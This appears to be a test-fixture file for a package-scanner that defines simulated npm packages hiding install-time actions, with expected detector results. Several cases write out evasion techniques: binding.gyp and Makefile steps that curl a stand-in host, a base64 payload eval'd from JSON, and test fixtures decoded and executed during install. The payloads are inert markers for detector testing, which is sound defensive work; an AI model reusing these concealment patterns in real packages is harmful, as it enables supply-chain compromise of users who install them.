import { base64, hex } from './encode.ts';
import { armed, finding, fires, latchCommand, pkg, quiet, type Simulant, text } from './simulant.ts';

const inBuild = { phase: ['install'] } as const;
const effect = finding(
  'install.build-effect',
  'high',
  ['process.exec', ['net.connect', 'net.dns', 'net.http', 'file.write']],
  inBuild,
);
const fixture = finding('exec.fixture-to-exec', 'high', ['file.read', 'file.write', 'process.exec'], inBuild);
/** In a pipe the result may be opened before the fixture is read. */
const fixturePiped = finding(
  'exec.fixture-to-exec',
  'high',
  [['file.read', 'file.write'], ['file.read', 'file.write'], 'process.exec'],
  inBuild,
);
const addon = text`
  #include <node_api.h>
  static napi_value Init(napi_env env, napi_value exports) { return exports; }
  NAPI_MODULE(NODE_GYP_MODULE_NAME, Init)
`;

/** B22 and B34: native builds with an effect of their own, and fixtures that become programs. */
export const build: readonly Simulant[] = [
  {
    id: 'b22-gyp-command-expansion',
    row: 'B22',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b22-gyp', {
        'binding.gyp': `{ "targets": [{ "target_name": "columns", "sources": ["addon.c", "<!(node version.js)"] }] }\n`,
        'addon.c': addon,
        'version.js': armed`
          require('node:http').get('http://build.simulant.invalid/' + process.platform, (answer) => answer.resume()).on('error', () => {});
          require('node:fs').writeFileSync(require('node:path').join(require('node:os').homedir(), '.simulant-build'), 'marker');
          console.log('extra.c');
        `,
        'extra.c': 'int simulant_extra = 1;\n',
      }),
    ],
    expect: fires('suspicious', [effect]),
    note: 'No script in the manifest: npm builds any package with a binding.gyp, and configuring runs the expansion.',
  },
  {
    id: 'b22-make-recipe',
    row: 'B22',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg(
        'b22-make',
        {
          Makefile: [
            'all: addon.o',
            'addon.o: addon.s',
            `\tnode -e "require('@assay-simulant/latch')" && curl -fs -m 3 -o /dev/null http://build.simulant.invalid/make || true`,
            `\tnode -e "require('@assay-simulant/latch')" && echo marker > $(HOME)/.simulant-make || true`,
            '\tas addon.s -o addon.o || true',
            '',
          ].join('\n'),
          'addon.s': '.globl simulant\nsimulant: ret\n',
        },
        { scripts: { install: 'make' }, dependencies: { '@assay-simulant/latch': '1.0.0' } },
      ),
    ],
    expect: fires('suspicious', [effect]),
    note: 'A recipe line that is no compiler.',
  },
  {
    id: 'b22-evasion-included-action',
    row: 'B22',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg(
        'b22-include',
        {
          'binding.gyp': `{ "includes": ["common.gypi"], "targets": [{ "target_name": "columns", "sources": ["addon.c"] }] }\n`,
          'common.gypi': `{ "variables": { "flags%": "<!(node -e \\"require('@assay-simulant/latch');eval(Buffer.from(require('./flags.json').v,'base64')+'')\\")" } }\n`,
          'flags.json': JSON.stringify({
            v: base64(
              "require('child_process').execFileSync('sh',['-c','curl -fs -m 3 -o /dev/null http://build.simulant.invalid/i||true'],{env:{}});console.log('-O2')",
            ),
          }),
          'addon.c': addon,
        },
        { dependencies: { '@assay-simulant/latch': '1.0.0' } },
      ),
    ],
    expect: fires('suspicious', [effect]),
    note: 'Variable of an included file, base64 in JSON, curl without environment.',
  },
  {
    id: 'b22-neighbour-generates-header',
    row: 'B22',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n22-header',
        {
          Makefile: 'all:\n\tmkdir -p build\n\tprintf "#define SIMULANT 1\\n" > build/config.h\n',
        },
        { scripts: { install: 'make || echo "no make: using defaults"' } },
      ),
    ],
    expect: quiet(['install.build-effect', 'exec.', 'persist.']),
    note: 'A build that writes a header in its own folder.',
  },
  {
    id: 'b34-fixture-becomes-script',
    row: 'B34',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg(
        'b34-fixture',
        {
          'tests/fixtures/corrupt.bin': hex('console.log("simulant marker");'),
          'configure.js': armed`
            const fs = require('node:fs'), path = require('node:path');
            const bytes = fs.readFileSync(path.join(__dirname, 'tests/fixtures/corrupt.bin'), 'latin1');
            fs.mkdirSync(path.join(__dirname, 'build'), { recursive: true });
            const out = path.join(__dirname, 'build/config.js');
            fs.writeFileSync(out, Buffer.from(bytes, 'hex'));
            require('node:child_process').execFileSync(process.execPath, [out]);
          `,
        },
        { scripts: { install: 'node configure.js' } },
      ),
    ],
    expect: fires('suspicious', [fixture]),
    note: 'A broken test input is decoded into the build folder and run.',
  },
  {
    id: 'b34-evasion-two-fixtures-by-shell',
    row: 'B34',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg(
        'b34-shell',
        {
          'tests/data/good-1.lz': `XX${base64('echo simulant ').slice(0, 10)}`,
          'tests/data/good-2.lz': `YY${base64('echo simulant ').slice(10)}`,
          'build-aux/gen.sh': text`
            #!/bin/sh
            t() { tail -c +3 "tests/data/good-$1.lz"; }
            mkdir -p build
            (t 1; t 2) | base64 -d > build/liblz.la
            . ./build/liblz.la > /dev/null
            sh build/liblz.la > /dev/null
          `,
        },
        { scripts: { install: `${latchCommand}sh build-aux/gen.sh` } },
      ),
    ],
    expect: fires('suspicious', [fixturePiped]),
    note: 'Two valid-looking archives hold the halves; the result has a library’s name and is sourced and run by a shell.',
  },
  {
    id: 'b34-neighbour-fixture-copied',
    row: 'B34',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n34-copy',
        {
          'data/zones.csv': 'a,1\nb,2\n',
          'tests/fixtures/sample.bin': hex('sample'),
          'generate.js': text`
            const fs = require('node:fs'), path = require('node:path');
            const rows = fs.readFileSync(path.join(__dirname, 'data/zones.csv'), 'utf8').trim().split('\n').map((line) => line.split(','));
            fs.mkdirSync(path.join(__dirname, 'dist'), { recursive: true });
            fs.writeFileSync(path.join(__dirname, 'dist/zones.json'), JSON.stringify(Object.fromEntries(rows)));
          `,
          'index.js': text`
            exports.zones = () => JSON.parse(require('node:fs').readFileSync(require('node:path').join(__dirname, 'dist/zones.json'), 'utf8'));
          `,
        },
        { scripts: { postinstall: 'node generate.js' } },
      ),
    ],
    expect: quiet(['exec.', 'install.build-effect']),
    note: 'Data becomes data; the fixture lies unused.',
  },
];
